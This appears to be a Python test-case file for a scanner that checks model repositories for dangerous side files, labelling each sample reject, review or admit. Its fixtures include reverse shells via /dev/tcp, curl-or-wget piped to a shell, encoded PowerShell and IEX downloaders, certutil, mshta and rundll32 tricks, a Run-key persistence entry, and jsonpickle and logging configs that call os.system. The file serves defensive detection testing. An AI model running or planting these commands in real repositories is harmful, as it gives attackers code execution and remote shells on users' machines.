"""What comes beside a model in its repository: settings of tools, scripts, notebooks."""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping

from openvet.testing.case import Case

__all__ = ["CASES"]

_LFS_HOOK = "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { printf >&2 'git-lfs was not found'; exit 2; }\ngit lfs post-checkout \"$@\"\n"
_CLONE = (
    '[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "origin"]\n\turl = https://example.org/x/y\n'
    '[filter "lfs"]\n\tprocess = git-lfs filter-process\n\trequired = true\n'
)


def _notebook(source: str) -> str:
    cell: dict[str, object] = {
        "cell_type": "code",
        "metadata": {},
        "source": [source],
        "outputs": [],
        "execution_count": None,
    }
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]})


def _tasks(run_on: str) -> str:
    task = {"label": "x", "type": "shell", "command": "echo hello", "runOptions": {"runOn": run_on}}
    return json.dumps({"version": "2.0.0", "tasks": [task]})


def _case(name: str, technique: str, files: Mapping[str, str], decision: str, *rules: str) -> Case:
    return Case(
        id=f"hub/{name}",
        technique=technique,
        forge=lambda: {"config.json": b'{"model_type": "bert"}', **{key: text.encode() for key, text in files.items()}},
        decision=decision,  # type: ignore[arg-type]
        rules=frozenset(rules),
    )


_CALC = base64.b64encode("calc".encode("utf-16-le")).decode()
_WEB = "(New-Object Net.WebClient).DownloadString"
#: Name, ending, what it shows, the line, and the decision: commands of Windows in scripts of one or two lines.
_WINDOWS = (
    ("encoded", "bat", "a short encoded command", f"powershell -enc {_CALC}", "reject"),
    ("encoded-short", "cmd", "the parameter is one letter long", f"@powershell.exe -nop -w 1 -e {_CALC}", "reject"),
    ("encoded-slash", "bat", "the parameter begins with a slash", f"powershell /EncodedCommand {_CALC}", "reject"),
    ("encoded-pwsh", "sh", "PowerShell as it is called elsewhere", f"#!/bin/sh\npwsh -ec {_CALC}", "reject"),
    ("encoded-carets", "bat", "carets between the letters", f"p^ower^shell -e^nc {_CALC}", "reject"),
    (
        "encoded-argument",
        "ps1",
        "it is an argument of Start-Process",
        f"Start-Process powershell -ArgumentList '-enc {_CALC}'",
        "reject",
    ),
    (
        "encoded-variables",
        "bat",
        "the words stand in variables",
        f'set a=power\nset "b=shell -en"\n%a%%b%c {_CALC}',
        "reject",
    ),
    (
        "letters",
        "bat",
        "a command that is spelled letter by letter",
        "".join(f"%x:~{n},1%" for n in range(12)),
        "reject",
    ),
    (
        "download-string",
        "ps1",
        "runs what it fetches without encryption",
        f"IEX {_WEB}('http://example.org/x')",
        "reject",
    ),
    (
        "download-behind",
        "ps1",
        "the same, behind a pipe and from a bare address",
        f"{_WEB}('https://192.0.2.1/x') | iex",
        "reject",
    ),
    (
        "download-joined",
        "ps1",
        "the name of the command is put together",
        "$a='I'+'EX'; & $a (iwr http://example.org/x)",
        "reject",
    ),
    (
        "download-block",
        "ps1",
        "runs a script block of what it fetches",
        "&([scriptblock]::Create((irm http://example.org/x)))",
        "reject",
    ),
    (
        "download-file",
        "bat",
        "runs the program that it fetches",
        "bitsadmin /transfer j http://example.org/x.exe %T%\\x.exe & %T%\\x.exe",
        "reject",
    ),
    (
        "assembly",
        "ps1",
        "loads a program from base64",
        "[Reflection.Assembly]::Load([Convert]::FromBase64String($x))",
        "reject",
    ),
    (
        "certutil",
        "cmd",
        "certutil as a downloader",
        "certutil -urlcache -split -f https://example.org/x.exe x.exe",
        "reject",
    ),
    ("mshta", "bat", "a page that runs as a program", "start mshta https://example.org/x.hta", "reject"),
    (
        "rundll32",
        "bat",
        "a script in place of a library",
        'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication "',
        "reject",
    ),
    (
        "run-key",
        "bat",
        "starts with every login",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe",
        "reject",
    ),
    (
        "in-vbs",
        "vbs",
        "a script of Windows starts it",
        f'CreateObject("WScript.Shell").Run "powershell -enc {_CALC}", 0',
        "reject",
    ),
    (
        "installer",
        "ps1",
        "a script of a host that few know, which is run as installers are",
        "irm https://example.org/install.ps1 | iex",
        "reject",
    ),
    (
        "ordinary-webui",
        "bat",
        "an ordinary starter of a web interface",
        (
            "@echo off\nset PYTHON=python\nset COMMANDLINE_ARGS=--xformers\n%PYTHON% -m venv venv\ncall venv\\Scripts\\activate.bat\n"
            "%PYTHON% launch.py %COMMANDLINE_ARGS%\npause"
        ),
        "admit",
    ),
    (
        "ordinary-download",
        "bat",
        "fetches a file, and PowerShell with other parameters",
        (
            'powershell -ExecutionPolicy Bypass -Encoding utf8 -Command "Invoke-WebRequest https://example.org/a.zip -OutFile a.zip"\n'
            'powershell -Command "Expand-Archive a.zip -DestinationPath ."\ncertutil -hashfile a.zip SHA256'
        ),
        "admit",
    ),
    (
        "ordinary-powershell",
        "ps1",
        "an ordinary script of PowerShell",
        (
            "param([string]$Model = 'x')\n$env:HF_HOME = \"$PWD\\hf\"\npython -m pip install -r requirements.txt `\n  --upgrade\n"
            "[Reflection.Assembly]::LoadWithPartialName('System.IO.Compression.FileSystem')\nWrite-Host ('a' + 'b')"
        ),
        "admit",
    ),
    (
        "ordinary-hidden-starter",
        "vbs",
        "starts a batch file without a window",
        'CreateObject("WScript.Shell").Run "webui.bat", 0, False',
        "admit",
    ),
)

_MODULES = '[{"idx": 0, "name": "0", "path": "%s", "type": "sentence_transformers.models.Pooling"}]'
_TOOL, _SHELL = "hub/tool-command", "hub/shell-command"
CASES: tuple[Case, ...] = (
    _case("git-fsmonitor", "Git runs the file system monitor of the settings in the folder",
          {".git/config": "[core]\n\tfsmonitor = echo hello\n"}, "reject", _TOOL),
    _case("git-ssh-command", "Git runs the ssh command of the settings in the folder",
          {".git/config": "# x\n[core]\n\tsshCommand = \"echo hello\"\n"}, "reject", _TOOL),
    _case("git-alias", "an alias of Git that is a shell command",
          {".git/config": "[core]\n\tbare = false\n[alias]\n\tst = !echo hello\n"}, "reject", _TOOL),
    _case("git-filter", "a filter of Git that is a command",
          {".git/config": '[core]\n\tbare = false\n[filter "x"]\n\tsmudge = echo hello\n'}, "reject", _TOOL),
    _case("git-ext-remote", "a remote of Git that is a command",
          {".git/config": '[core]\n\tbare = false\n[remote "origin"]\n\turl = ext::sh -c echo\n'}, "reject", _TOOL),
    _case("git-hook", "a hook in the folder's own .git",
          {".git/hooks/post-checkout": "#!/bin/sh\necho hello\n"}, "reject", _TOOL),
    _case("git-hook-in-python", "a hook in the folder's own .git that is no shell script",
          {".git/hooks/pre-commit": "#!/usr/bin/perl\nprint 'hello'\n"}, "reject", _TOOL),
    _case("git-hook-behind-lfs", "a hook that calls Git LFS and something else on one line",
          {".git/hooks/post-merge": "#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo hello; }; echo hello\n"},
          "reject", _TOOL),
    _case("editor-task", "a task that starts when the folder is opened",
          {".vscode/tasks.json": _tasks("folderOpen")}, "reject", _TOOL),
    _case("reverse-shell", "a script that hands a shell to another machine",
          {"run.sh": "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1\n"}, "reject", _SHELL),
    _case("module-outside", "a module of sentence-transformers that lies outside of the folder",
          {"modules.json": _MODULES % "../../x"}, "reject", "hub/config-callable"),
    _case("ordinary-modules", "modules of sentence-transformers in folders of their own",
          {"modules.json": _MODULES % "1_Pooling"}, "admit"),
    _case("container-command", "a development container that runs a command of the machine before it starts",
          {".devcontainer/devcontainer.json": '{"initializeCommand": "echo hello"}'}, "review", _TOOL),
    _case("container-inner-command", "a development container that runs a command inside of itself",
          {".devcontainer/devcontainer.json": '{"postCreateCommand": "echo hello"}'}, "admit"),
    _case("fetch-and-run", "a script that runs what it fetches",
          {"install.sh": "#!/bin/bash\ncurl -s https://example.org/x | sudo bash\n"}, "reject", _SHELL),
    _case("decode-and-run", "a script that runs what it decodes",
          {"install.sh": "#!/bin/sh\necho ZWNobyBoZWxsbw== | base64 -d | sh\n"}, "reject", _SHELL),
    _case("notebook-fetch-and-run", "a cell of a notebook that runs what it fetches",
          {"a.ipynb": _notebook("!wget -qO- https://example.org/x | sh\n")}, "reject", _SHELL),
    _case("notebook-system", "a cell of a notebook whose Python gives a shell what it fetches",
          {"a.ipynb": _notebook("import os\nos.system('curl -s https://example.org/x | sh')\n")}, "reject", _SHELL),
    _case("notebook-reverse-shell", "a cell of a notebook whose Python hands a shell to another machine",
          {"a.ipynb": _notebook("import subprocess\nsubprocess.run(['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'])\n")}, "reject", _SHELL),
    _case("jsonpickle", "a JSON text from which jsonpickle makes a call",
          {"state.json": '{"py/object": "subprocess.Popen", "py/reduce": [{"py/type": "subprocess.Popen"}, {"py/tuple": [["echo"]]}]}'}, "reject",
          "hub/config-target"),
    _case("jsonpickle-deep", "a function that jsonpickle imports, deep in a JSON text",
          {"state.json": '{"layers": [{"state": {"py/function": "os.system"}}]}'}, "reject", "hub/config-target"),
    _case("logging-factory", "settings of logging make a handler by calling a function",
          {"logging.json": '{"version": 1, "handlers": {"a": {"()": "os.system", "command": "echo"}}}'}, "reject", "hub/config-target"),
    _case("logging-factory-in-yaml", "the same in YAML, by the other way of naming it",
          {"logging.yaml": 'version: 1\nhandlers:\n  a:\n    "()": ext://subprocess.check_output\n    args: echo\n'}, "reject", "hub/config-target"),
    _case("ordinary-logging", "settings of logging with a handler and a formatter of their own",
          {"logging.yaml": 'version: 1\nformatters:\n  a:\n    "()": their.Formatter\nhandlers:\n  a:\n    "()": logging.FileHandler\n    filename: log.txt\n'},
          "admit"),
    _case("ordinary-jsonpickle", "a scaler that jsonpickle wrote, and a vocabulary with its words",
          {"state.json": '{"py/object": "sklearn.preprocessing._data.StandardScaler", "copy": true, "size": {"py/tuple": [1, 2]}}',
           "vocab.json": '{"py/object": 1, "os.system": 2, "py/function": 3}'}, "admit"),
    _case("ordinary-notebook-of-commands", "a notebook whose Python starts commands",
          {"a.ipynb": _notebook("import subprocess\nsubprocess.run(['git', 'clone', 'https://example.org/x'])\nmodel.run('a | b')\n")}, "admit"),
    _case("ordinary-clone", "the settings and the hook that a clone with Git LFS has",
          {".git/config": _CLONE, ".git/hooks/post-checkout": _LFS_HOOK, ".git/HEAD": "ref: refs/heads/main\n"}, "admit"),
    _case("ordinary-task", "a task of an editor that somebody has to start",
          {".vscode/tasks.json": _tasks("default")}, "admit"),
    _case("ordinary-script", "a script that fetches and runs, but not the one by the other",
          {"run.sh": "#!/bin/bash\ncurl -LO https://example.org/data.txt\npython train.py | tee log.txt\n"}, "admit"),
    *(
        _case(f"windows-{name}", technique, {f"run.{ending}": line + "\r\n"}, decision, *([_SHELL] if decision != "admit" else []))
        for name, ending, technique, line, decision in _WINDOWS
    ),
    _case("ordinary-notebook", "a notebook that installs a package", {"a.ipynb": _notebook("!pip install torch\n")}, "admit"),
)  # fmt: skip
